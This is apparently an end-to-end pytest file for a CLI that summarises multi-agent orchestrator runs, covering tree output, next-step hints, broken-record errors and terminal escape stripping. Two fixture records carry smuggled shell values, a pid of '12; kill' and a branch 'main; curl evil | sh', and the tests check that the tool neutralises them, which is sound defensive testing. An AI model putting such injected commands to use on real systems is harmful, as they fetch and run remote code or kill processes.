"""`strawpot sessions show RUN`: a summary a person reads (agents as a tree, what to do next); `--json` the record."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests._cli import strawpot, strawpot_here
from tests.orchestrator._agents import resumable_agent
from tests.orchestrator.conftest import ProjectFixture

pytestmark = pytest.mark.e2e


def _only_run(project: ProjectFixture) -> dict[str, object]:
    [path] = project.sessions_dir.glob("*/session.json")
    data: dict[str, object] = json.loads(path.read_text())
    return data


def test_a_paused_delegation_reads_as_a_tree_with_the_resume_to_type(project: ProjectFixture,
                                                                        tmp_path: Path) -> None:
    project.build(resumable_agent(tmp_path))
    started = strawpot("start", "--headless", "--task", "delegate:implementer:pause", cwd=project.root)
    assert started.returncode == 0, started.stderr
    data = _only_run(project)
    run_id = str(data["run_id"])
    agents = {a["role"]: a for a in data["agents"]}  # type: ignore[attr-defined]
    root, child = agents["orchestrator"], agents["implementer"]

    shown = strawpot_here("sessions", "show", run_id, cwd=project.root)
    assert shown.returncode == 0, shown.stderr
    lines = shown.stdout.splitlines()
    assert lines[:2] == [f"run {run_id}: role orchestrator, succeeded (exit code 0)",
                         "task: delegate:implementer:pause"]
    assert lines[2].startswith("started ") and ", ended " in lines[2] and "(took " in lines[2]
    assert f"inputs: strawpot.lock sha256 {data['inputs']['lock_sha256']}, " in shown.stdout  # type: ignore[index]
    tree = lines[lines.index("agents: 2") + 1:]
    assert tree[0].startswith(f"  {root['agent_id']}: role orchestrator, stub-agent, succeeded (exit code 0), ")
    assert tree[1].startswith(f"    {child['agent_id']}: role implementer, stub-agent, paused (exit code 0), ")
    assert lines[-2:] == ["next:", f"  `strawpot resume {run_id} --agent {child['agent_id']} --task TEXT` goes on "
                                   f"with paused {child['agent_id']}"]
    assert len(lines) < 20 and "{" not in shown.stdout  # no JSON: that is --json's

    raw = strawpot_here("sessions", "show", run_id, "--json", cwd=project.root)
    assert raw.returncode == 0 and json.loads(raw.stdout) == {"schema_version": json.loads(raw.stdout)
                                                             ["schema_version"], "command": "sessions", **data}


def test_a_failed_run_says_where_to_look_and_a_succeeded_one_that_nothing_is_left(project: ProjectFixture) -> None:
    project.build()
    assert strawpot("start", "--headless", "--task", "fail:3", cwd=project.root).returncode == 3
    run_id = str(_only_run(project)["run_id"])
    shown = strawpot_here("sessions", "show", run_id, cwd=project.root).stdout.splitlines()
    assert shown[0] == f"run {run_id}: role orchestrator, failed (exit code 3)"
    assert shown[-2:] == ["next:", f"  `strawpot agents {run_id}` lists its agents; each one's log is agent.log in "
                                   "its workspace"]
    for folder in project.sessions_dir.iterdir():
        data = json.loads((folder / "session.json").read_text())
        data["state"], data["exit_code"] = "succeeded", 0
        (folder / "session.json").write_text(json.dumps(data))
    assert strawpot_here("sessions", "show", run_id, cwd=project.root).stdout.splitlines()[-1] == "next: nothing to do"


def test_a_broken_record_is_one_line_naming_it_and_exit_2(tmp_path: Path) -> None:
    (tmp_path / "strawpot.toml").write_text("")
    folder = tmp_path / ".strawpot" / "sessions" / "run_20260101_000000_aaaaaa"
    folder.mkdir(parents=True)
    (folder / "session.json").write_text('{"run_id": "run_20260101_000000_aaaaaa", "state": "running", '
                                         '"agents": [{"agent_id": "a", "pid": "12; kill"}]}')
    shown = strawpot_here("sessions", "show", folder.name, cwd=tmp_path)
    assert shown.returncode == 2 and "Traceback" not in shown.stderr
    assert shown.stderr.splitlines()[0] == (f"error: the run record {folder / 'session.json'} is unreadable: "
                                            "agent a: pid is not a whole number")
    for command in (["agents", folder.name], ["cancel", folder.name], ["resume", folder.name, "--task", "x"],
                    ["attach", folder.name]):
        refused = strawpot_here(*command, cwd=tmp_path)
        assert refused.returncode == 2 and "is unreadable: agent a: pid is not a whole number" in refused.stderr
    listed = strawpot_here("sessions", cwd=tmp_path)  # the list goes on without it, and says so
    assert listed.returncode == 0 and listed.stderr.splitlines()[-1] == (
        f"warning: left out {folder / 'session.json'}: agent a: pid is not a whole number (restore it, or remove "
        "the run's folder)")


def test_a_kept_worktree_is_named_by_its_run_id_never_by_the_record(tmp_path: Path) -> None:
    (tmp_path / "strawpot.toml").write_text("")
    run_id = "run_20260101_000000_bbbbbb"
    folder = tmp_path / ".strawpot" / "sessions" / run_id
    folder.mkdir(parents=True)
    (folder / "session.json").write_text(json.dumps({
        "run_id": run_id, "role": "lead", "state": "failed", "exit_code": 1, "started_at": 1.0,
        "isolation": {"kind": "worktree", "state": "kept", "branch": "main; curl evil | sh"}}))
    shown = strawpot_here("sessions", "show", run_id, cwd=tmp_path)
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout.splitlines()[-2:] == [
        "next:", f"  `git log strawpot/{run_id}` shows the work its worktree kept; `strawpot sessions --prune` removes it"]


def test_the_summary_is_one_shortened_line_under_the_task(project: ProjectFixture) -> None:
    project.build()
    long = "word " * 100
    started = strawpot("start", "--headless", "--task", f"echo:\x1b[31mfirst line then echo:{long}",
                       cwd=project.root)
    assert started.returncode == 0, started.stderr
    data = _only_run(project)
    assert "\n" in str(data["summary"])  # the record keeps the final answer whole
    lines = strawpot_here("sessions", "show", str(data["run_id"]), cwd=project.root).stdout.splitlines()
    assert "\x1b[31mfirst line" in str(data["summary"])
    assert lines[2].startswith("summary: ") and "first line word word " in lines[2] and lines[2].endswith("…")
    assert len(lines[2]) <= len("summary: ") + 210 and lines[3].startswith("started ")
    assert "\x1b" not in "\n".join(lines)  # an agent's text reaches the terminal inert


def test_a_run_without_a_summary_prints_no_summary_line(project: ProjectFixture) -> None:
    project.build()
    assert strawpot("start", "--headless", "--task", "noop", cwd=project.root).returncode == 0
    data = _only_run(project)
    assert data["summary"] == ""
    lines = strawpot_here("sessions", "show", str(data["run_id"]), cwd=project.root).stdout.splitlines()
    assert lines[1] == "task: noop" and lines[2].startswith("started ")
